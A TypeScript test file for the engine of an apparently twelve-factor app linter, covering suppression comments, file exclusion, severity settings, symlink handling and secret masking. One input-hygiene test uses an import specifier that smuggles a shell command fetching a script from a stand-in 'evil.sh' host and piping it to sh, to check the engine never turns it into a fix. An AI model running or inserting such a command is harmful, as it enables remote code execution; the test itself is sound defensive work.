// The engine's own behaviour, independent of any one rule: discovery, suppression, settings, checklist.
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { scan, scanFiles, tempProject } from '../helpers/engine';
import { Engine } from '../../server/src/engine/engine';
import { ALL_RULES } from '../../server/src/rules';
import { silentLogger } from '../../server/src/core/types';
import { disableFix } from '../../server/src/fixes/generic';

const PORT = 'port-binding/hardcoded-port';
const SECRET = 'config/hardcoded-secret';
const pkg = JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { express: '^4.19.2' } });

describe('engine', () => {
  it('honours twelve-factor-disable-next-line, with one id, several ids, or none', async () => {
    const s = await scanFiles({
      'package.json': pkg,
      'a.js':
        "const express = require('express');\n// twelve-factor-disable-next-line port-binding/hardcoded-port\nexpress().listen(3000);\n",
      'b.js':
        "const express = require('express');\n// twelve-factor-disable-next-line config/hardcoded-secret, port-binding/hardcoded-port\nexpress().listen(3001);\n",
      'c.js': "const express = require('express');\n/* twelve-factor-disable-next-line */\nexpress().listen(3002);\n",
      'd.js':
        "const express = require('express');\n// twelve-factor-disable-next-line config/hardcoded-secret\nexpress().listen(3003);\n",
    });
    assert.deepStrictEqual(s.where(PORT), ['d.js:3']);
  });

  it('honours .gitignore, skips node_modules and build output, and applies twelveFactor.exclude globs', async () => {
    const listen = "require('express')().listen(3000);\n";
    const root = tempProject({
      'package.json': pkg,
      '.gitignore': 'generated/\n',
      'src/a.js': listen,
      'generated/b.js': listen,
      'node_modules/x/c.js': listen,
      'dist/d.js': listen,
      'legacy/e.js': listen,
      'legacy/keep/f.js': listen,
    });
    const engine = new Engine({ root, rules: ALL_RULES, logger: silentLogger, exclude: ['legacy/*.js'] });
    await engine.scan();
    const files = engine
      .findings()
      .filter((f) => f.ruleId === PORT)
      .map((f) => engine.rel(f.path))
      .sort();
    assert.deepStrictEqual(files, ['legacy/keep/f.js', 'src/a.js']);
  });

  it('applies severity overrides and "off" from settings', async () => {
    const root = tempProject({ 'package.json': pkg, 'a.js': "require('express')().listen(3000);\n" });
    const engine = new Engine({ root, rules: ALL_RULES, logger: silentLogger, ruleSettings: { [PORT]: 'error' } });
    await engine.scan();
    assert.strictEqual(engine.findings().find((f) => f.ruleId === PORT)?.severity, 'error');
    engine.ruleSettings = { [PORT]: 'off' };
    assert.strictEqual(engine.findings().filter((f) => f.ruleId === PORT).length, 0);
  });

  it('checklist: fail on errors, warn on warnings or advisories, pass with no finding, n/a when no rule applied', async () => {
    const root = tempProject({ 'package.json': pkg, 'a.js': "require('express')().listen(3000);\n" });
    const engine = new Engine({ root, rules: ALL_RULES, logger: silentLogger });
    await engine.scan();
    const status = (slug: string) => engine.checklist().find((c) => c.slug === slug)!.status;
    assert.strictEqual(status('port-binding'), 'warn');
    engine.ruleSettings = { [PORT]: 'info' };
    assert.strictEqual(status('port-binding'), 'warn');
    assert.strictEqual(engine.checklist().find((c) => c.slug === 'port-binding')!.counts.info, 1);
    engine.ruleSettings = { [PORT]: 'off' };
    assert.strictEqual(status('port-binding'), 'pass');
    engine.ruleSettings = { [PORT]: 'error' };
    assert.strictEqual(status('port-binding'), 'fail');
    engine.ruleSettings = Object.fromEntries(
      ALL_RULES.filter((r) => r.meta.factor === 'port-binding').map((r) => [r.meta.id, 'off']),
    );
    assert.strictEqual(status('port-binding'), 'not-applicable');
  });

  it('reports files under their real path when a symlink points at a folder inside the workspace', async () => {
    const root = tempProject({ 'package.json': pkg, 'src/server.js': "require('express')().listen(3000);\n" });
    fs.symlinkSync(path.join(root, 'src'), path.join(root, 'a-link'));
    const s = await scan(root);
    assert.deepStrictEqual(s.where(PORT), ['src/server.js:1']);
    assert.ok(
      s.logs.some((l) => l.includes('a-link: a symlink to a folder inside the workspace')),
      s.logs.join('\n'),
    );
  });

  it('skips binary, minified and oversized files with a log line, and keeps going', async () => {
    const root = tempProject({
      'package.json': pkg,
      'ok.js': "require('express')().listen(3000);\n",
      'bundle.js': `var a=1;${'x'.repeat(3000)}\n`,
    });
    fs.writeFileSync(path.join(root, 'blob.js'), Buffer.from([0, 1, 2, 3, 0, 255]));
    fs.writeFileSync(path.join(root, 'huge.js'), `// ${'y'.repeat(1024 * 1024 + 10)}\n`);
    const s = await scan(root);
    assert.deepStrictEqual(s.where(PORT), ['ok.js:1']);
    for (const [file, why] of [
      ['blob.js', 'binary'],
      ['bundle.js', 'minified'],
      ['huge.js', 'over the'],
    ]) {
      assert.ok(
        s.logs.some((l) => l.includes(file) && l.includes(why)),
        `${file}: ${s.logs.join('\n')}`,
      );
    }
  });

  it('analyses large hand-written files and skips minified ones by line shape, not by size', async () => {
    // 60 kB of ordinary code, 1,500 lines: the old size-based guess skipped it as minified, silently.
    const big = `${"const express = require('express');\n"}${Array.from({ length: 1500 }, (_, i) => `function handler${i}(req, res) { res.json({ ok: ${i} }); }`).join('\n')}\nexpress().listen(3000);\n`;
    const mapped = `${Array.from({ length: 40 }, (_, i) => `var m${i}=1;`).join('\n')}\n${'a=1;'.repeat(2000)}\n//# sourceMappingURL=app.js.map\n`;
    const root = tempProject({ 'package.json': pkg, 'src/server.js': big, 'public/app.js': mapped });
    const s = await scan(root);
    assert.ok(big.length > 60_000);
    assert.deepStrictEqual(s.where(PORT), ['src/server.js:1502']);
    assert.deepStrictEqual(
      s.engine.skipped.map((x) => `${x.rel} ${x.reason}`),
      ['public/app.js minified'],
    );
  });

  it('a workspace member opened on its own finds its workspace root above it (hoisted deps, lockfile)', async () => {
    const root = tempProject({
      'package.json': JSON.stringify({
        name: 'mono',
        private: true,
        workspaces: ['apps/*'],
        dependencies: { express: '^4.19.2' },
      }),
      'package-lock.json': JSON.stringify({
        lockfileVersion: 3,
        packages: {
          '': { name: 'mono' },
          'node_modules/express': { version: '4.19.2' },
          'node_modules/api': { link: true, resolved: 'apps/api' },
          'apps/api': { version: '1.0.0' },
        },
      }),
      'apps/api/package.json': JSON.stringify({
        name: 'api',
        version: '1.0.0',
        private: true,
        scripts: { start: 'node index.js' },
      }),
      'apps/api/index.js': "const express = require('express');\nmodule.exports = express;\n",
    });
    const s = await scan(path.join(root, 'apps', 'api'));
    const project = s.engine.workspace!.projects.find((p) => p.pkg?.name === 'api')!;
    assert.strictEqual(project.parent?.root, root);
    assert.strictEqual(project.lockfile?.path, path.join(root, 'package-lock.json'));
    assert.deepStrictEqual(s.where('dependencies/undeclared-import'), []);
    assert.deepStrictEqual(s.where('dependencies/missing-lockfile'), []);
    assert.deepStrictEqual(project.lockfile?.versions.get('api'), ['1.0.0']);
  });

  it('runs no project rule on packages inside test, fixture, example or docs folders: they are never deployed', async () => {
    const s = await scanFiles({
      'package.json': JSON.stringify({
        name: 'app',
        private: true,
        scripts: { start: 'node server.js' },
        dependencies: { express: '^4.19.2' },
      }),
      'package-lock.json': JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { name: 'app' } } }),
      'server.js': "require('express')().listen(process.env.PORT);\nprocess.on('SIGTERM', () => process.exit(0));\n",
      'test/resources/subflow/package/package.json': JSON.stringify({
        name: 'fixture',
        dependencies: { 'node-red': '*' },
      }),
      'test/bundler/esbuild/package.json': JSON.stringify({
        name: 'bundle-test',
        private: true,
        dependencies: { esbuild: '^0.20.0' },
      }),
      'test/bundler/esbuild/src/index.js': "require('../../../../');\n",
      'examples/demo/package.json': JSON.stringify({
        name: 'demo',
        private: true,
        scripts: { start: 'node app.js' },
        dependencies: { koa: 'latest' },
      }),
      'examples/demo/app.js': "require('koa');\nnew (require('koa'))().listen(3000);\n",
    });
    assert.deepStrictEqual(
      s.findings.map((f) => `${f.ruleId} ${s.engine.rel(f.path)}`).filter((w) => /test\/|examples\//.test(w)),
      [],
    );
  });

  it('reports nothing in a collection of examples: demo servers, each in its own folder, that nothing starts', async () => {
    const app = (name: string) =>
      `const Koa = require('koa');\nconst session = require('koa-session');\nconst app = module.exports = new Koa();\napp.keys = ['${name} key', 'csrf example'];\nconst posts = [];\napp.use((ctx) => { posts.push(ctx.path); });\nif (!module.parent) app.listen(3000);\n`;
    const s = await scanFiles({
      'package.json': JSON.stringify({
        name: 'koa-examples',
        dependencies: { koa: '^2.2.0', 'koa-session': '^5.0.0' },
      }),
      'csrf/app.js': app('csrf'),
      'blog/app.js': app('blog'),
      'flash-messages/app.js': app('flash'),
    });
    assert.deepStrictEqual(
      s.findings.map((f) => `${f.ruleId} ${s.engine.rel(f.path)}`),
      [],
    );
  });

  it('never shows a secret in full in any finding message', async () => {
    const secret = 'sk_live_4eC39HqLyjWDarjtT1zdp7dcTTx';
    const s = await scanFiles({
      'package.json': pkg,
      'a.js': `const key = '${secret}';\nmodule.exports = key;\n`,
      '.env': `STRIPE_SECRET_KEY=${secret}\n`,
    });
    assert.ok(s.findings.some((f) => f.ruleId === SECRET));
    for (const f of s.findings) assert.ok(!f.message.includes(secret), f.message);
  });
});

describe('engine input hygiene', () => {
  it('never turns an import specifier that is no npm name into a finding or a terminal command', async () => {
    const s = await scanFiles({
      'package.json': pkg,
      'a.js': 'require("lodash;curl${IFS}-s${IFS}evil.sh|sh");\nrequire("left-pad");\n',
    });
    assert.deepStrictEqual(s.where('dependencies/undeclared-import'), ['a.js:2']);
    const fixes = s.findings
      .filter((f) => f.ruleId === 'dependencies/undeclared-import')
      .flatMap((f) => s.engine.fixesFor(f));
    assert.ok(fixes.every((f) => !JSON.stringify(f).includes('curl')));
  });

  it('reads a package.json with a byte-order mark, and reports columns as editors show them', async () => {
    const root = tempProject({ 'package.json': `\uFEFF${pkg}`, 'a.js': "\uFEFFrequire('express')().listen(3000);\n" });
    const s = await scan(root);
    assert.ok(!s.logs.some((l) => /malformed/.test(l)), s.logs.join('\n'));
    const port = s.findings.find((f) => f.ruleId === PORT)!;
    assert.strictEqual(port.range.start.character, "require('express')().listen(".length);
  });

  it('offers no disable comment where a comment would break the file (.nvmrc) and uses // in schema.prisma', async () => {
    const root = tempProject({ '.nvmrc': '18\n', 'prisma/schema.prisma': 'datasource db {\n  url = "x"\n}\n' });
    const s = await scan(root);
    const ctx = s.engine.fixContext(path.join(root, '.nvmrc'));
    const range = { start: { line: 0, character: 0 }, end: { line: 0, character: 2 } };
    const style = (rel: string) => s.engine.commentStyle(path.join(root, rel), ctx.read);
    assert.strictEqual(style('.nvmrc'), undefined);
    assert.strictEqual(
      disableFix(
        { ruleId: 'x/y', path: path.join(root, '.nvmrc'), range, message: '', messageId: 'm', severity: 'info' },
        ctx,
        style('.nvmrc'),
      ),
      undefined,
    );
    const prisma = disableFix(
      {
        ruleId: 'x/y',
        path: path.join(root, 'prisma/schema.prisma'),
        range: { start: { line: 1, character: 2 }, end: { line: 1, character: 5 } },
        message: '',
        messageId: 'm',
        severity: 'info',
      },
      ctx,
      style('prisma/schema.prisma'),
    )!;
    assert.strictEqual(prisma.edits![0].edits[0].newText, '  // twelve-factor-disable-next-line x/y\n');
  });
});

describe('engine logs', () => {
  it('never copies file content into a parse-error log line, and does not follow symlinks out of the workspace', async () => {
    const secret = 'Zq8vN3kLp0xR7tY4wB9eSECRETVALUE';
    const outside = tempProject({ 'x.js': "require('express')().listen(3000);\n" });
    const root = tempProject({
      'package.json': pkg,
      'pnpm-lock.yaml': `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies: { token: "${secret}" \n  bad: [\n`,
      'broken/package.json': `{ "name": "broken", "token": "${secret}", }`,
    });
    fs.symlinkSync(outside, path.join(root, 'linked'));
    const s = await scan(root);
    assert.ok(
      s.logs.some((l) => l.includes('broken/package.json')),
      s.logs.join('\n'),
    );
    for (const l of s.logs) assert.ok(!l.includes(secret), l);
    assert.ok(
      s.logs.some((l) => l.includes('linked: a symlink to a folder outside the workspace, not followed')),
      s.logs.join('\n'),
    );
    assert.deepStrictEqual(s.where(PORT), []);
  });
});
